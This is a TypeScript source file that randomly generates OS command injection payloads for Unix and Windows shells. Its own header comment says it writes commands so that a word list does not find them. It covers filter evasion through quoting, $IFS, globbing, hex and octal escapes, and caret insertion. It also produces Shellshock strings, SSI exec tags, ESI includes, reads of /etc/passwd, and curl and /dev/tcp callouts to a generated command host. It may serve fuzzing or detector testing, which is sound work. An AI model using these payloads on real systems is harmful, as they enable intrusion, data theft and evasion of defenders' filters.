// Commands for the server's shell: Unix and Windows, what joins them to the value, and the ways to write a command so
// that a list of words does not find it.

import { commandHost, FILES, unix, windows } from './commands.ts';
import type { Picker } from './picker.ts';

/** The same command for a shell, in other letters. */
function disguise(p: Picker, command: string): string {
  const [name = '', ...rest] = command.split(' ');
  const letters = (join: string): string => Array.from(name).join(join);
  const at = p.int(1, Math.max(1, name.length - 1));
  const cut = (with_: string): string => name.slice(0, at) + with_ + name.slice(at);
  const disguised = p.pick([
    cut("''"),
    cut('""'),
    cut('\\'),
    cut('$@'),
    cut('$*'),
    cut('${x}'),
    cut('`​`'.replace('​', '')),
    letters('\\'),
    letters("''"),
    `"${name}"`,
    `'${name}'`,
    `/bin/${name}`,
    `/usr/bin/${name}`,
    `/???/${name.slice(0, 1)}${'?'.repeat(Math.max(1, name.length - 1))}`,
    `$(printf '${name}')`,
    `$(echo ${name})`,
    `{${[name, ...rest].join(',')}}`,
    `\\${name}`,
    `/b?n/${name}`,
    `$'\\${name.charCodeAt(0).toString(8)}${name.slice(1)}'`,
    `$'\\x${name.charCodeAt(0).toString(16)}${name.slice(1)}'`,
    `c\\${name}`,
    `${name}$IFS`,
    `$(tr a-z A-Z<<<${name})`,
    `$(rev<<<${Array.from(name).toReversed().join('')})`,
    `${name.slice(0, 1)}[${name.slice(1, 2)}]${name.slice(2)}`,
    `$0<<<${name}`,
    `^${letters('^')}`,
    `a=${name};$a`,
  ]);
  const blank = p.pick([
    ' ',
    ' ',
    '$IFS',
    '${IFS}',
    '$IFS$9',
    '\t',
    '<',
    '%09',
    '{IFS}',
    '%20',
    '+',
    '\\ ',
    '%0a',
  ]);
  const args = rest.map((word) =>
    p.chance(0.35)
      ? word.replaceAll(/[a-z]/gu, (letter) =>
          p.chance(0.3) ? p.pick(['?', `${letter}''`, `\\${letter}`, `[${letter}]`, `${letter}$@`]) : letter,
        )
      : word,
  );
  return disguised.startsWith('{') ? disguised : [disguised, ...args].join(blank);
}

function joiner(p: Picker): string {
  return p.pick([
    ';',
    '; ',
    '|',
    '| ',
    '||',
    '|| ',
    '&',
    '&& ',
    '&&',
    '\n',
    '%0a',
    '%0d%0a',
    '`',
    '$(',
    '"; ',
    "'; ",
    '";',
    "';",
    '\r\n',
    '");',
    "');",
    '|&',
    '%3b',
    '%7c',
    '%26',
    '";|',
    '}; ',
    ') ',
    '%0A',
    ' & ',
    '; /',
    '"|',
    "'|",
    '"&',
    "'&&",
    '\\n',
    '<(',
    '>(',
    '${',
    '`',
    '$(',
    '$(',
    '() { :;}; ',
    '!',
  ]);
}

/** The command put into a variable first. */
function inVariable(p: Picker, command: string): string {
  const name = p.pick(['CMD', 'a', 'x', p.letters(1, 3)]);
  const hex = Array.from(command, (letter) => `\\x${letter.charCodeAt(0).toString(16)}`).join('');
  return p.pick([
    `${name}=$'${hex}';$${name}`,
    `${name}=$"${command}";$${name}`,
    `${name}='${command}';eval $${name}`,
    `FAIL||${name}=$'${hex}'&&$${name}`,
    `;${name}=${command.split(' ')[0] ?? ''};$${name} /etc/passwd`,
    `\nusr/bin/${command}\n`,
    `<!--#exec cmd="/bin/${command}"-->`,
    `eval('${command}')`,
  ]);
}

export function shell(p: Picker): string {
  const isWindows = p.chance(0.2);
  let command = isWindows ? windows(p) : unix(p);
  if (!isWindows && p.chance(0.3)) command = disguise(p, command);
  else if (isWindows && p.chance(0.15))
    command = command.replaceAll(/(?<=[a-z])(?=[a-z])/gu, () => p.maybe(0.4, '^'));
  const kind = p.int(0, 99);
  let text: string;
  const value = p.pick([
    '',
    '',
    '',
    '1',
    p.letters(1, 8),
    '127.0.0.1',
    'x',
    'a.txt',
    'test',
    `${p.letters(3, 6)}@example.com`,
    '-1',
    'localhost',
    'file.pdf',
    'a)',
    'a',
    '/index.html',
    'FAIL',
    `${p.letters(2, 6)}")`,
    '$',
  ]);
  if (kind < 55) {
    const join = joiner(p);
    const close = join.endsWith('`')
      ? '`'
      : join.endsWith('(')
        ? ')'
        : join.endsWith('{')
          ? '}'
          : p.pick([
              '',
              '',
              '',
              '',
              ';',
              '\\n',
              "|'",
              '#',
              ' #',
              '|',
              '"',
              "'",
              '&',
              '&&',
              ' ;',
              '\n',
              '%00',
              '||',
              ' 2>&1',
              '%0a',
            ]);
    text = value + p.maybe(0.15, ' ') + join + command + close;
  } else if (kind < 67)
    text = `${value}${p.pick(['$(', '`', '<(', '"$(', "'`", '${'])}${command}`.replace(
      /^(.*?)(\$\(|`|<\(|\$\{)(.*)$/su,
      (_, front: string, open: string, inner: string) =>
        front + open + inner + (open === '`' ? '`' : open === '${' ? '}' : ')'),
    );
  else if (kind < 75) text = command.includes(' ') || command.length > 6 ? command : `/bin/${command}`;
  else if (kind < 81) text = `${value};${command};${p.chance(0.5) ? unix(p) : windows(p)}`;
  else if (kind < 86)
    text = p.pick([
      `() { :;}; ${command}`,
      `() { :; }; /bin/bash -c "${command}"`,
      `() { ignored; }; echo; ${command}`,
      `() { _; } >_[$($())] { ${command}; }`,
      `(){ :;};${command}`,
      `() { :a; }; echo "Content-Type: text/plain"; echo; ${command}`,
      `() { :;}; echo vulnerable`,
      `() { x;};curl http://${commandHost(p)}`,
      `() { :;};exec 3<>/dev/tcp/${commandHost(p)}/80`,
    ]);
  else if (kind < 90)
    text = `${p.pick(['system', 'exec', 'shell_exec', 'passthru', 'popen', 'os.system', 'subprocess.call', 'Runtime.getRuntime().exec', 'require("child_process").execSync', 'os.popen', 'IO.popen', '%x', 'proc_open', 'pcntl_exec', 'Process.Start'])}(${p.pick(['"', "'"])}${command}${p.pick(['"', "'"])})${p.pick(['', ';', ';//', '.read()'])}`;
  else if (kind < 93)
    text = p.pick([
      `<!--#exec cmd="${command}"-->`,
      `<!--#exec%20cmd="${command}"-->`,
      `<!--#include file="${p.pick(FILES)}"-->`,
      `<!--#include virtual="/${p.letters(2, 6)}.html"-->`,
      `<!--#echo var="${p.pick(['DATE_LOCAL', 'DOCUMENT_NAME', 'HTTP_USER_AGENT'])}"-->`,
      `<!--#printenv -->`,
      `<!--#config errmsg="x"--><!--#exec cmd="id"-->`,
      `<esi:include src=http://${commandHost(p)}/x>`,
      `<esi:inline name="/attack.html">`,
    ]);
  else
    text = `${value}${joiner(p)}${p.pick(['${IFS}', '$IFS', '<', '{'])}${command.replaceAll(' ', p.pick(['${IFS}', '$IFS$9', '<', ',']))}`;
  if (p.chance(0.03)) text = inVariable(p, command);
  if (p.chance(0.06)) text = text.replaceAll(' ', p.pick(['+', '%20', '%09', '${IFS}']));
  return text;
}
